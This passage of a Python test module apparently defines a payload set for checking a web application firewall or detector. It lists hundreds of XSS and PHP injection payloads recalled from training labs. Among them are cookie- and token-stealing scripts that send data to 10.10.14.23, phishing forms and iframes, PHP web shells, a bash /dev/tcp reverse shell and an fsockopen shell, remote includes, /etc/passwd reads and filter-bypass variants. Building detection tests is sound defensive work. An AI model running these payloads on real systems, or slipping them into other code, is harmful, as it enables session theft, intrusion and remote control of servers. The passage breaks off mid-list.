"""Blind set "hundredsixtyeighth": cross-site scripting and PHP injection the way students and instructors solve
the classic deliberately vulnerable training labs, with benign requests that carry the same words innocently.

The angle: web-security training labs, recalled from memory. DVWA at low, medium, high and impossible, OWASP Juice
Shop challenges, WebGoat lessons, bWAPP, Mutillidae, HackTheBox and TryHackMe web boxes and the online academies'
lab solutions. For each family the set holds the first probe a student sends, the working exploit, and the
"harder level" variant that defeats the lab's naive filter: a case change against a case-sensitive str_replace,
a doubled keyword against a filter that deletes it once, alternative syntax against a blacklist (no parentheses,
no script tag, no quotes, no "php"), or an encoding the filter does not decode. Each group of payloads carries a
short comment naming its family, its lab and its target (browser, AngularJS/Vue, Internet Explorer, the PHP
interpreter, PHP-CGI, Apache, php-fpm, a PHP framework).

Families (category xss):
  libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction), javascript-uri,
  html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression, template-literal-dom-sink,
  ie-filter-style, encoded-entity, angular-vue-template
Families (category php):
  php-open-tag, php-function-call (system/exec/passthru/shell_exec/popen/proc_open/assert/eval/create_function/
  preg_replace-e), php-variable-functions, php-wrappers (php://, data://, phar://, expect://, zip://, glob://),
  php-object-injection (serialized O:/a:/C:), php-config-directives (auto_prepend_file, allow_url_include),
  superglobals, php-file-upload (.php/.phtml/.phar names), php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (the labs' own pages: /vulnerabilities/xss_r/, /vulnerabilities/fi/, bWAPP and
Mutillidae pages, Juice Shop's search API, /index.php, /) under the labs' parameter names, as a query string, form
body, JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a custom header or a cookie. Upload
names go as the file name of a multipart upload (the admin import, and the labs' upload pages). The Juice Shop
header challenge goes in True-Client-IP. PHP-CGI argument injections (CVE-2012-1823, CVE-2024-4577), extract()
and register_globals overwrites and the AngularJS sandbox escape without strings go as raw query strings, as the
lab solutions write them. Payloads with control characters never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, lab
solutions as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test or
public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredsixtyeighth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
UP = ("multipart-filename", "rs-multipart-filename")
RAWQ = ("query", "rs-query")
TCIP = ("header:True-Client-IP", "rs-header:True-Client-IP")

# ================================================================================================================
# XSS (target: the victim's browser unless a comment says otherwise)
# ================================================================================================================

# libinjection-xss: short breakouts from the reflected text or attribute into a new tag (browser)
XSS_LIBINJECTION: list[Entry] = [
    # DVWA Reflected XSS, "What's your name?" field: the first probe breaks out of nothing, then out of a value
    '"><img src=x onerror=alert(document.domain)>',
    "'><svg/onload=alert(1)>",
    '"/><script>alert(document.cookie)</script>',
    # DVWA Stored XSS guestbook: the message lands inside a textarea on the edit page
    "</textarea><script>alert(document.cookie)</script>",
    # Mutillidae: the reflected value lands in the page title and in an HTML comment
    "</title><script>alert(1)</script>",
    "--><script>alert('mutillidae')</script><!--",
    # bWAPP "XSS - Reflected (GET)", first and last name fields
    '"><body onload=alert("bWAPP")>',
    "<img src=1 onerror=prompt(1)>",
    # the lab's style block: close it and open a tag
    "</style><script>alert(1)</script>",
    # WebGoat "Reflected XSS": the credit card number field of the shopping cart
    "4128 3214 0002 1999<script>alert('webgoat')</script>",
    # THM "XSS" room, the level that puts input inside an input value
    '"><input autofocus onfocus=alert("THM")>',
    # HTML5 tags the labs' tag blacklists forget (browser)
    '"><details open ontoggle=alert(1)>',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(document.cookie)>",
    "<marquee onstart=alert(1)>xss</marquee>",
    "<body onpageshow=alert(1)>",
    '"><xss onmouseover=alert(1)>hover here</xss>',
    # closing a JSON-in-script block then a new tag (Juice Shop-style Angular page shell)
    "</script><svg onload=alert(1)>",
    # the lab strips only the first '>' after the quote: an unclosed tag still renders
    '"><img src=x onerror=alert(1)//',
    "<iframe onload=alert(document.domain)>",
]

# script-tag: the <script> element itself and the medium/high-level filter bypasses (browser)
XSS_SCRIPT: list[Entry] = [
    # DVWA low: no filtering at all
    "<script>alert(1)</script>",
    "<script>alert(document.cookie)</script>",
    # DVWA medium: str_replace('<script>', '') is case-sensitive and runs once
    "<ScRiPt>alert(1)</ScRiPt>",
    "<SCRIPT>alert('XSS')</SCRIPT>",
    "<scr<script>ipt>alert(document.cookie)</script>",
    # bWAPP medium / Mutillidae level 1: the filter deletes the word 'script' once
    "<scrscriptipt>alert(1)</scrscriptipt>",
    # whitespace and attributes the naive regexes do not expect
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    '<script type="text/javascript">alert(1)</script>',
    "<script/src=data:,alert(1)></script>",
    # HackTheBox web boxes: the stored payload that steals the admin bot's cookie to tun0
    "<script>new Image().src='http://10.10.14.23/?c='+document.cookie</script>",
    "<script>fetch('http://10.10.14.23:8000/?c='+btoa(document.cookie))</script>",
    "<script src=http://10.10.14.23/x.js></script>",
    # TryHackMe rooms: redirect the victim to the AttackBox listener
    "<script>document.location='http://10.9.0.5:8080/steal?c='+document.cookie</script>",
    '<script>var i=new Image;i.src="http://10.9.0.5/"+document.cookie;</script>',
    # filters that block 'alert' or quotes
    "<script>prompt(1)</script>",
    "<script>confirm(document.domain)</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</script>",
    # Juice Shop: read the JWT the Angular app keeps in localStorage
    "<script>fetch('//10.10.14.23/t?'+localStorage.getItem('token'))</script>",
]

# event-handler: on* attributes when every script tag is blocked (browser)
XSS_EVENT: list[Entry] = [
    # DVWA high: preg_replace('/<(.*)s(.*)c(.*)r(.*)i(.*)p(.*)t/i') kills script only
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(document.cookie)">',
    "<body onload=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    # Mutillidae/bWAPP: the input is reflected inside a double- or single-quoted attribute
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus="alert(document.domain)',
    # events that fire with no user interaction
    "<input onfocus=alert(1) autofocus>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    '<div onmouseover="alert(1)">move the mouse here</div>',
    "<body onresize=alert(1)>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    # PortSwigger academy: all standard tags blocked, a custom tag focused through the fragment
    "<xss id=x onfocus=alert(document.cookie) tabindex=1>#x",
    # no parentheses allowed: tagged template and error handler tricks
    "<img src=x onerror=alert`1`>",
    "<img src=x onerror=window['al'+'ert'](1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
    # the working exploit on the HTB box: exfiltrate the cookie from the event
    "<img src=x onerror=this.src='http://10.10.14.23/?'+document.cookie>",
    # stored XSS through the uploaded file's name, shown on the lab's file list
    ('"><img src=x onerror=alert(document.domain)>.jpg', *UP),
    "<body onhashchange=alert(1)><a href=#x>click</a>",
]

# attribute-vector: src/href/style/formaction/srcdoc carrying script, no event handler needed (browser)
XSS_ATTRIBUTE: list[Entry] = [
    # PortSwigger academy: form action and formaction when on* attributes are stripped
    "<form><button formaction=javascript:alert(1)>submit</button></form>",
    "<form><input type=submit formaction=javascript:alert(document.cookie) value=go></form>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    # iframes that need no javascript: scheme
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="<script>alert(parent.document.cookie)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>',
    # PortSwigger "canonical link tag": single quotes not encoded, accesskey fires onclick (Chrome)
    "'accesskey='x'onclick='alert(1)",
    # bWAPP: the input is the src of an img, break out of the attribute
    '" src=x onerror=alert(1) x="',
    "x' onerror='alert(document.domain)",
    # old-browser src/href vectors the XSS cheat sheets taught (IE6/Netscape)
    "<img src=\"javascript:alert('XSS')\">",
    "<img dynsrc=\"javascript:alert('XSS')\">",
    "<img lowsrc=\"javascript:alert('XSS')\">",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<input type=\"image\" src=\"javascript:alert('XSS');\">",
    "<video poster=javascript:alert(1)//></video>",
    # an inline style with a script URL inside the attribute the lab allows
    "<div style=\"background-image:url(javascript:alert('XSS'))\">x</div>",
    # a full-page overlay link: the style makes the event certain to fire
    '<a href=# style="position:fixed;top:0;left:0;width:100%;height:100%" onmouseover=alert(1)>x</a>',
    '<object data="data:text/html,<script>alert(document.domain)</script>"></object>',
]

# javascript-uri: the javascript: scheme in links, redirects and "website" fields (browser)
XSS_JSURI: list[Entry] = [
    # PortSwigger "stored XSS into anchor href": the comment's website field
    "javascript:alert(1)",
    "javascript:alert(document.cookie)",
    # the lab only checks for lowercase 'javascript:'
    "JaVaScRiPt:alert(1)",
    "javascripT:alert(document.domain)",
    # whitespace and comments the browser strips from the scheme
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript://comment\nalert(1)",
    "javascript://%0aalert(document.cookie)",
    # Juice Shop "DOM XSS" challenge, the search box
    '<iframe src="javascript:alert(`xss`)">',
    '<a href="javascript:alert(1)">click me</a>',
    # the returnPath / redirect parameter labs (jQuery attr('href') sink)
    "javascript:fetch('//10.10.14.23/?c='+document.cookie)",
    "javascript:void(document.location='http://10.10.14.23/?'+document.cookie)",
    "javascript:location='//10.10.14.23/'+localStorage.getItem('token')",
    # the redirect filter demands 'https://' somewhere in the value
    "javascript:alert(1)//https://example.com",
    # filters on 'alert(' and on parentheses
    "javascript:eval('ale'+'rt(1)')",
    "javascript:window.onerror=alert;throw 1",
    "javascript:top['al'+'ert'](document.domain)",
    "javascript:prompt(document.cookie)",
    # PortSwigger "DOM XSS using web messages and a JavaScript URL": the message must contain http:
    "javascript:print()//http:",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
]

# html-injection: frames, objects, embeds, base, meta refresh, links and forms injected into the page (browser)
XSS_HTML: list[Entry] = [
    # bWAPP "HTML Injection - Reflected": a fake login form posting to the attacker
    '<form action="http://10.10.14.23/login" method="post">Username:<input name=u> Password:'
    '<input type=password name=p><input type=submit value=Login></form>',
    '<h1>Session expired</h1><form action=http://10.10.14.23/><input name=pass type=password></form>',
    '"><a href="http://10.10.14.23/login">Your session expired, log in again</a>',
    # meta refresh to the attacker, to a script URL, to a data URL (browser)
    '<meta http-equiv="refresh" content="0;url=http://10.10.14.23/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    # base tag: every relative script on the page now loads from the attacker
    '<base href="http://10.10.14.23/">',
    "<base href=\"javascript:alert('XSS');//\">",
    # frames and objects
    '<iframe src="http://10.10.14.23/phish.html" width="100%" height="100%" frameborder=0></iframe>',
    "<iframe src=http://10.10.14.23/ onload=alert(document.domain)></iframe>",
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="http://10.10.14.23/x.swf" type="application/x-shockwave-flash"></object>',
    '<embed src="http://10.10.14.23/xss.swf" allowscriptaccess=always>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<link rel="import" href="http://10.10.14.23/x.html">',
    # PortSwigger "dangling markup": steal the CSRF token that follows the injection point
    "\"><img src='http://10.10.14.23/?",
    "\"><button formaction=http://10.10.14.23/ formmethod=get>Click</button><textarea name=x>",
    # Juice Shop "Bonus Payload" and "API-only XSS": an iframe stored through the product API
    '<iframe width="100%" height="166" scrolling="no" frameborder="no" allow="autoplay" '
    'src="https://w.soundcloud.com/player/?url=https%3A//api.soundcloud.com/tracks/771984076&color=%23ff5500'
    '&auto_play=true&hide_related=false&show_comments=true&show_user=true&show_reposts=false&show_teaser=true">'
    "</iframe>",
    # Juice Shop "Persisted XSS (feedback)": sanitize-html strips the inner tag once
    '<<script>Foo</script>iframe src="javascript:alert(`xss`)">',
    # Juice Shop "HTTP-Header XSS": stored from True-Client-IP, shown on the last-login page
    ('<iframe src="javascript:alert(``xss``)">', *TCIP),
]

# svg-mathml: foreign-content elements and their animation/handler attributes (browser)
XSS_SVG: list[Entry] = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(document.domain)>",
    "<SvG oNlOaD=alert(1)>",
    "<svg\tonload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    # PortSwigger "some SVG markup allowed": animatetransform with onbegin
    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    # PortSwigger "SVG animate": href set to a javascript: URL by animation (browser)
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click me</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /><rect width=100% height=100% /></svg>",
    "<svg><image href=x onerror=alert(1) /></svg>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    # an SVG "profile picture" uploaded to the lab and opened directly (stored XSS in the file)
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
    '<?xml version="1.0" standalone="no"?><svg xmlns="http://www.w3.org/2000/svg" version="1.1">'
    '<script type="text/javascript">alert(document.cookie)</script></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)' /></svg>#x\" /></svg>",
    # MathML: href on any element (Firefox), maction (old Firefox)
    '<math href="javascript:alert(1)">CLICK</math>',
    '<math><maction actiontype="statusline#http://google.com" xlink:href="javascript:alert(1)">CLICKME</maction>'
    "</math>",
    # DOMPurify-era mutation XSS write-ups: namespace confusion through math and svg
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg><title><a id="</title><img src=1 onerror=alert(1)>"></a></title></svg>',
]

# css-expression: style sheets and style attributes that run script or leak data (IE, Firefox XBL, any browser)
XSS_CSS: list[Entry] = [
    # IE expression() in a style attribute and a style block
    '<div style="width:expression(alert(1))">x</div>',
    "<style>*{x:expression(alert(document.cookie))}</style>",
    "<img style=\"xss:expression(alert('XSS'))\">",
    # the lab strips 'expression': comments and escapes split the word (IE)
    '<div style="x:ex/**/pression(alert(1))">x</div>',
    '<div style="xss:expr\\ession(alert(1))">x</div>',
    "red;x:expression(alert(1))",
    # script URLs in CSS properties (IE6, old Opera)
    "<style>body{background:url(\"javascript:alert('XSS')\")}</style>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
    "<style>@import'javascript:alert(1)';</style>",
    '<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x</li></ul>',
    "color:red;background:url(javascript:alert(1))",
    # behaviours and bindings loaded from the attacker (IE .htc, Firefox XBL)
    '<div style="behavior:url(http://10.10.14.23/xss.htc)">x</div>',
    '<p style="-moz-binding:url(http://10.10.14.23/xss.xml#xss)">x</p>',
    # CSS-driven events in modern browsers
    '<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="alert(1)"></div>',
    "<style>:target{color:red}</style><p id=x style=\"transition:color 1s\" ontransitionend=alert(1)>x</p>",
    # CSS injection that exfiltrates a CSRF token, one character per request (HTB / academy)
    "<style>input[name=csrf][value^=a]{background:url(http://10.10.14.23/?a)}</style>",
    "@import url(http://10.10.14.23/steal.css);",
    # escaping the lab's style block into markup
    "</style><img src=x onerror=alert(1)>",
    "<link rel=stylesheet href=\"javascript:alert('XSS')\">",
    "<link rel=stylesheet href=\"data:,*%7bx:expression(alert(1))%7d\">",
]

# template-literal-dom-sink: script-context breakouts and DOM sinks (document.write, innerHTML, eval) (browser)
XSS_DOM: list[Entry] = [
    # DVWA DOM XSS: the 'default' language parameter goes through document.write
    "English<script>alert(document.cookie)</script>",
    # DVWA DOM medium blocks '<script': close the select and use an image
    "English</option></select><img src=x onerror=alert(1)>",
    # DVWA DOM high: an allowlist on the server, the fragment never reaches it
    "English#<script>alert(document.cookie)</script>",
    # PortSwigger: the search term reflected in a JavaScript string
    "'-alert(1)-'",
    "';alert(document.domain)//",
    "\\';alert(1)//",
    '"-alert(1)-"',
    "'+alert(1)+'",
    "</script><img src=1 onerror=alert(document.domain)>",
    # PortSwigger "reflected XSS into a template literal"
    "${alert(document.domain)}",
    "${alert(document.cookie)}",
    # PortSwigger "reflected DOM XSS": the JSON response goes to eval()
    '\\"-alert(1)}//',
    # innerHTML and jQuery sinks take no script tags, but images fire
    "<img src=1 onerror=alert(document.domain)>",
    "<img src=x onerror=print()>",
    # the exploit-server page for the web-message lab
    "<iframe src=\"https://target.web-security-academy.net/\" "
    "onload=\"this.contentWindow.postMessage('<img src=1 onerror=print()>','*')\"></iframe>",
    # eval sinks: run whatever the fragment or an attribute carries
    "<img src=x onerror=eval(location.hash.slice(1))>#alert(1)",
    "<img src=x onerror=eval(atob(this.id)) id=YWxlcnQoMSk=>",
    "';document.location='http://10.10.14.23/?c='+document.cookie;//",
    "';setTimeout('alert(document.cookie)',0);//",
    # PortSwigger "DOM XSS via client-side prototype pollution": the transport_url gadget
    ("__proto__[transport_url]=data:,alert(1);", *RAWQ),
]

# ie-filter-style: the vectors Internet Explorer's XSS filter and its signature lists were built around (IE)
XSS_IE: list[Entry] = [
    'vbscript:msgbox("XSS")',
    '<a href="vbscript:MsgBox(document.cookie)">x</a>',
    '<script language="vbscript">msgbox 1</script>',
    "<iframe src=vbscript:msgbox(1)></iframe>",
    # UTF-7 when the page declares no charset (IE)
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # HTML+TIME and behaviours (IE 5-8)
    '<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" '
    'to="XSS<script defer>alert(1)</script>">',
    '<xss style="behavior:url(#default#time2)" onbegin="alert(1)">',
    '<html xmlns:xss><?import namespace="xss" implementation="http://10.10.14.23/xss.htc"><xss:xss>XSS</xss:xss>'
    "</html>",
    # XML data islands bound into HTML (IE)
    "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>"
    "<span datasrc=#x datafld=c dataformatas=html></span>",
    # conditional comments the filter's regexes did not look inside (IE)
    "<!--[if gte IE 4]><script>alert('XSS');</script><![endif]-->",
    # ActiveX and applets
    '<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value=javascript:alert(1)>'
    "</object>",
    '<applet code="Exploit.class" codebase="http://10.10.14.23/"></applet>',
    "<isindex action=javascript:alert(1) type=submit value=click>",
    '<embed src="javascript:alert(1)">',
    '<body background="javascript:alert(\'XSS\')">',
    '<bgsound src="javascript:alert(\'XSS\');">',
    '<layer src="http://10.10.14.23/xss.html"></layer>',
    # script-context signatures: location, cookie and innerHTML assignments
    "\";document.body.innerHTML='<h1>hacked</h1>';//",
    "';x=document.cookie;location='http://10.10.14.23/?'+x;//",
    "\"];alert(1);//",
]

# encoded-entity: entity, percent, JavaScript and UTF-8 encodings that a lab's filter does not decode (browser)
XSS_ENCODED: list[Entry] = [
    # the lab URL-decodes twice (a second urldecode after the filter)
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(document.cookie)%253C%252Fscript%253E",
    "%22%3E%3Csvg%20onload%3Dalert(1)%3E",
    # the lab runs html_entity_decode after htmlspecialchars
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(document.cookie)&#60;/script&#62;",
    # entities inside attributes, decoded by the browser before the handler runs
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;'
    '&#49;&#41;">x</a>',
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58"
    "&#x53&#x53&#x27&#x29>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert&lpar;1&rpar;">x</a>',
    "<svg onload=alert&#40;1&#41;>",
    '<a href="javascript:%61%6c%65%72%74%28%31%29">x</a>',
    # JavaScript escapes in a script or JSON context
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    r"\x3cimg src=x onerror=alert(1)\x3e",
    r'<img src=x onerror="\u0061lert(1)">',
    r"<script>\u0061\u006c\u0065\u0072\u0074(1)</script>",
    r"<script>eval('\x61\x6c\x65\x72\x74\x28\x31\x29')</script>",
    "<script>eval(String.fromCharCode(97,108,101,114,116,40,100,111,99,117,109,101,110,116,46,99,111,111,107,105,"
    "101,41))</script>",
    # IIS %u encoding and overlong UTF-8 (old IIS and Tomcat labs)
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
]

# angular-vue-template: client-side template injection in AngularJS and Vue pages (browser)
XSS_CSTI: list[Entry] = [
    # the first probe: does the page evaluate {{ }}
    "{{7*7}}",
    # AngularJS 1.6+ (no sandbox): PortSwigger "DOM XSS in AngularJS expression"
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(document.cookie)')()}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{$eval.constructor('alert(document.domain)')()}}",
    "<div ng-app>{{constructor.constructor('fetch(\"//10.10.14.23/?c=\"+document.cookie)')()}}</div>",
    # AngularJS 1.4 sandbox escape (charAt overwritten with join)
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    # AngularJS 1.5 sandbox escape
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    # AngularJS 1.3 sandbox escape
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    # PortSwigger "AngularJS sandbox escape without strings" (the search parameter and a second parameter)
    ("search=1&toString().constructor.prototype.charAt%3d[].join;[1]|orderBy:toString().constructor."
     "fromCharCode(120,61,97,108,101,114,116,40,49,41)=1", *RAWQ),
    # PortSwigger "AngularJS sandbox escape and CSP": ng-focus with orderBy
    "<input id=x ng-focus=$event.composedPath()|orderBy:'(z=alert)(document.cookie)'>#x",
    '<div ng-app ng-init="$on.constructor(\'alert(1)\')()"></div>',
    # Vue 2 and Vue 3 templates compiled from user input
    "{{_c.constructor('alert(1)')()}}",
    "{{this.constructor.constructor('alert(document.cookie)')()}}",
    "{{$el.ownerDocument.defaultView.alert(1)}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "<p v-show=\"_c.constructor`alert(1)`()\">x</p>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<x @click=\"_c.constructor('alert(1)')()\">click</x>",
    # Alpine.js directives on a page that initialises on the whole body
    '<div x-data x-init="alert(document.domain)"></div>',
]

# ================================================================================================================
# PHP (target: the PHP interpreter unless a comment says otherwise)
# ================================================================================================================

# php-open-tag: code with an open tag, uploaded, written to a log for LFI, or passed to an include (PHP)
PHP_OPEN_TAG: list[Entry] = [
    # DVWA File Upload low: the classic one-line web shell
    "<?php system($_GET['cmd']); ?>",
    "<?php echo shell_exec($_GET['c']); ?>",
    "<?php phpinfo(); ?>",
    "<?php @eval($_POST['pass']);?>",
    # short tags and short echo (the filter looks for '<?php' only)
    "<?=`$_GET[0]`?>",
    "<?=`id`?>",
    "<? passthru($_REQUEST['cmd']); ?>",
    # DVWA medium/high: case-sensitive check on '<?php', magic bytes for getimagesize()
    "<?PhP system($_GET['cmd']);?>",
    "GIF89a;<?php system($_GET['cmd']); ?>",
    "GIF89a\n<?php echo '<pre>'.shell_exec($_GET['c']).'</pre>'; ?>",
    # PHP 5 script-language and ASP tags (old lab VMs)
    '<script language="php">system($_GET["cmd"]);</script>',
    "<% system($_GET['cmd']); %>",
    # LFI to RCE through the Apache/nginx log: the User-Agent poisoned with code (HTB, THM "File Inclusion")
    ('<?php echo system($_GET["cmd"]);?>', "header:User-Agent", "rs-header:User-Agent"),
    ("<?php passthru($_GET['x']); ?>", "header:Referer", "rs-header:Referer"),
    # reverse shells to the AttackBox listener
    "<?php exec(\"/bin/bash -c 'bash -i >& /dev/tcp/10.10.14.23/4444 0>&1'\"); ?>",
    '<?php $sock=fsockopen("10.10.14.23",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>',
    # the shell writes a second shell (the upload is renamed or deleted later)
    "<?php file_put_contents('s.php','<?php system($_GET[0]);?>'); ?>",
    # read files and source
    "<?php echo file_get_contents('/etc/passwd'); ?>",
    "<?php readfile('/var/www/html/flag.txt'); ?>",
    "<?php echo base64_encode(file_get_contents('config.php')); ?>",
    "<?php highlight_file(__FILE__); ?>",
    "<?php var_dump(scandir('/')); ?>",
    "<?php echo `whoami`; ?>",
    "<?php\nsystem($_GET['x']);",
    # the simple-backdoor.php that ships with Kali
    '<?php if(isset($_REQUEST[\'cmd\'])){ echo "<pre>"; $cmd = ($_REQUEST[\'cmd\']); system($cmd); echo "</pre>"; '
    "die; }?>",
    # LFI via session upload progress: the progress field written into the session file
    ("<?php system('id'); ?>", "multipart-field", "rs-form"),
]

# php-function-call: command and code execution functions in an eval() or code-injection sink (PHP)
PHP_FUNCTION: list[Entry] = [
    # bWAPP "PHP Code Injection": message=test;<code> reaches eval()
    "phpinfo()",
    "test;system('id')",
    ";system('cat /etc/passwd');",
    "exec('whoami')",
    "passthru('ls -la /var/www/html')",
    "shell_exec('uname -a')",
    "echo fread(popen('id','r'),4096);",
    "proc_open('id',array(1=>array('pipe','w')),$p);echo stream_get_contents($p[1]);",
    # assert() with a string evaluates it (PHP < 7.2)
    "assert(\"system('id')\")",
    "eval('system(\"id\");')",
    # breaking out of the string the lab concatenates into eval()
    "\".system('id').\"",
    "';system($_GET[c]);//",
    "${system('id')}",
    "{${system('id')}}",
    # create_function() builds its body from input (PHP < 8)
    "1;}system('id');/*",
    "create_function('','system(\"id\");')",
    # preg_replace() with the /e modifier (PHP < 5.5)
    "preg_replace('/.*/e','system(\"id\")','x')",
    ("pat=/.*/e&rep=system('id')&sub=x", *RAWQ),
    # callbacks that run a command
    "call_user_func('system','id')",
    "call_user_func_array('passthru',array('whoami'))",
    "array_map('system',array('id'))",
    "register_shutdown_function('system','id');",
    "array_filter(array('id'),'system');",
    "pcntl_exec('/bin/sh',array('-c','id'));",
    "eval(file_get_contents('php://input'));",
    "include('http://10.10.14.23/shell.txt');",
]

# php-variable-functions: the function name built from strings or input, against keyword blacklists (PHP)
PHP_VARFUNC: list[Entry] = [
    "$_GET['f']($_GET['a']);",
    "$_GET[a]($_GET[b]);",
    "@$_POST['x']($_POST['y']);",
    "$a='sys'.'tem';$a('id');",
    "$f='ex'.'ec';echo $f('whoami');",
    "('sys'.'tem')('id');",
    "('system')('cat /flag');",
    "$_='sYsTeM';$_('id');",
    '${"_GET"}[0](${"_GET"}[1]);',
    "${'_'.'GET'}['a'](${'_'.'GET'}['b']);",
    "$x=base64_decode('c3lzdGVt');$x('id');",
    "$x=strrev('metsys');$x('id');",
    "$x=str_rot13('flfgrz');$x('id');",
    "$f=hex2bin('73797374656d');$f('id');",
    "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id');",
    r'$x="\x73\x79\x73\x74\x65\x6d";$x("id");',
    "$s=str_replace('x','','sxyxsxtxexm');$s('id');",
    "$f=implode('',['sy','st','em']);$f('id');",
    "$p='pass'.'thru';$p('cat /flag');",
    "$c='assert';$c($_POST['x']);",
    # CTF-style labs with no letters or digits allowed: XOR and NOT build '_GET' and 'system'
    '$_="`{{{"^"?<>/";${$_}[_](${$_}[__]);',
    ("code=(~%8C%86%8C%8B%9A%92)(~%9C%9E%8B%DF%D0%9A%8B%9C%D0%8F%9E%8C%8C%88%9B);", *RAWQ),
    "$a=$_GET;$a[0]($a[1]);",
    "$f=$_COOKIE['f'];$f($_COOKIE['c']);",
    "(new ReflectionFunction('system'))->invoke('id');",
    "\"{$_GET['f']($_GET['c'])}\"",
]

# php-wrappers: stream wrappers in an include()/file_get_contents() parameter (PHP)
PHP_WRAPPERS: list[Entry] = [
    # DVWA File Inclusion / THM "File Inclusion": read the source instead of running it
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=convert.base64-encode/resource=config.php",
    "php://filter/convert.base64-encode/resource=../../../../var/www/html/config.php",
    "php://filter/string.rot13/resource=index.php",
    "php://filter/convert.iconv.utf-8.utf-16le/resource=index.php",
    "php://filter/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    # the lab blacklists lowercase 'php://' (stream wrapper names are case-insensitive)
    "PHP://filter/convert.base64-encode/resource=index",
    "pHp://FilTer/convert.base64-encode/resource=flag",
